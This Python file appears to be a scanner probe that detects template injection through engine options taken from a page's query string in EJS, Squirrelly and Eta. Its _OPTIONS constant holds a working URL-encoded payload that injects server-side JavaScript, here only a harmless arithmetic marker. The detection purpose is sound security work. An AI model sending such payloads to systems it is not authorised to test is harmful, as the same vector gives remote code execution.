"""Template injection by options: a page hands its whole query to its engine, which takes options of its own from it.

What it finds
    Pages of Node that render with the query as data (`res.render("card", req.query)`), by an engine that reads its options out of
    the data and writes one of them into the code that it makes of the template (EJS up to 3.1.6: CVE-2022-29078; Squirrelly:
    CVE-2021-32819; Eta before 2.0: CVE-2022-25967).

Why it matters
    What is written there runs as code of the server, whatever the template itself does with its values.

How it decides
    Asked are pages that a GET request with a query was answered with. Beside the query stand the options that name a
    function of the made code, and its parameter, with a product of two random numbers in them: the page must hold what
    it comes to, behind a fresh word, and once more with others. With a blank in the place of the sign between the
    numbers it must not. The engine is told to keep nothing of it, neither by its own option nor by the framework's, so
    that nobody else is shown what was sent.

Known misses
    Data that is taken from bodies. Engines that are led otherwise.

Standards and references
    CWE-1336, CWE-94; OWASP Top 10:2021 A03 Injection.
"""

from collections.abc import Generator

import msgspec

from gatecrash.core.message import Exchange, Request
from gatecrash.core.testing.dialogues.asking import ask, concluding, response_of
from gatecrash.core.testing.entry import Entry
from gatecrash.core.testing.fresh_letters import fresh_letters
from gatecrash.core.testing.oracles.body import text_of
from gatecrash.core.testing.probe import Answer, Dialogue, Probe, Situation, TestRequest, once_an_address
from gatecrash.core.testing.verdict import Verdict, safe, vulnerable

TYPE = "ssti"
CWE = (1336, 94)
THREAT = 95
_GOOD = 200
# cache: neither the framework nor the engine keeps the code. What a plus sign says in a query is a blank. What stands
# for a missing parameter is computed where its name opens a scope, and writes over all that this page is made of.
_OPTIONS = (
    b"&cache=&settings%5Bview%20options%5D%5Bcache%5D="
    b"&settings%5Bview%20options%5D%5BoutputFunctionName%5D=a%3D1%3B__append(%22WORD%22%2BSUM)%3Bb"
    b"&settings%5Bview%20options%5D%5BvarName%5D="
    b"it%3D(()%3D%3E%7Bfor(let%20k%20in%20it)it%5Bk%5D%3D%22WORD%22%2BSUM%3Breturn%20it%7D)()"
    b"&settings%5Bview%20options%5D%5BuseWith%5D=1"
)
TIMES, NO_TIMES = b"%2A", b"%20"


def _dialogue(situation: Situation) -> Dialogue:
    if (yield from _computed(situation, "test")) is None:
        return safe(TYPE, situation.point, "the engine takes no option from the query")
    control, shown = yield from _asked(situation, NO_TIMES, "control")
    again = yield from _computed(situation, "confirm")
    if shown or again is None:
        return safe(TYPE, situation.point, "what was computed was so once, or without its sign, too")
    return _vulnerable(situation, again, control)


def _computed(situation: Situation, purpose: str) -> Generator[TestRequest, Answer, Exchange | None]:
    """The answer that holds the product behind its word; None where it does not."""
    exchange, shown = yield from _asked(situation, TIMES, purpose)
    return exchange if shown else None


def _asked(situation: Situation, sign: bytes, purpose: str) -> Generator[TestRequest, Answer, tuple[Exchange, bool]]:
    """An answer to fresh numbers with this sign between them, and whether it holds their product behind a fresh word."""
    random = situation.random
    left, right = random.randint(10_001, 31_000), random.randint(10_001, 31_000)
    word = fresh_letters(random, 8)
    options = _OPTIONS.replace(b"WORD", word.encode()).replace(b"SUM", b"%d%s%d" % (left, sign, right))
    request = situation.baseline.request
    asked: Request = msgspec.structs.replace(request, target=request.target + options)
    exchange = yield from ask(asked, purpose)
    return exchange, f"{word}{left * right}" in text_of(response_of(exchange))


def _vulnerable(situation: Situation, test: Exchange, control: Exchange) -> Verdict:
    return vulnerable(
        ENTRY,
        situation.point,
        detail="the engine takes options from the query",
        threat=THREAT,
        test=test,
        control=control,
        verified_by=(
            "The page holds the product of two numbers that were drawn at random, behind a word that was, where an option of its "
            "engine says to compute it; twice. Without the sign between the numbers it does not."
        ),
    )


def applies(situation: Situation) -> bool:
    """Pages that a GET request with a query was answered with."""
    request, response = situation.baseline.request, situation.baseline.response
    if response is None or response.status != _GOOD or request.method.upper() != "GET" or not request.query:
        return False
    kind = (response.first(b"Content-Type") or b"").lower()
    return kind.startswith(b"text/html") and "get" in situation.policy.locations and not situation.policy.one_family


def forecast(_situation: Situation) -> int:
    """One request, of which nobody computes anything."""
    return 1


ENTRY = Entry(
    type=TYPE,
    title="Options of a template engine are taken from the query",
    cwe=CWE,
    owasp=("A03:2021",),
    owasp_api=("API8:2019",),
    why="Whoever chooses the options of an engine that writes them into code runs code of their own on the server.",
    remediation=(
        "Hand the engine an object with the values that the page shows, each by its name, and never the whole query or body. "
        "Keep the engine current: it refuses what is no name there."
    ),
)
PROBE = Probe(
    type=TYPE,
    name="options",
    entry=ENTRY,
    whole=True,
    applies=applies,
    forecast=forecast,
    run=concluding(TYPE, _dialogue),
    collected=once_an_address,
)
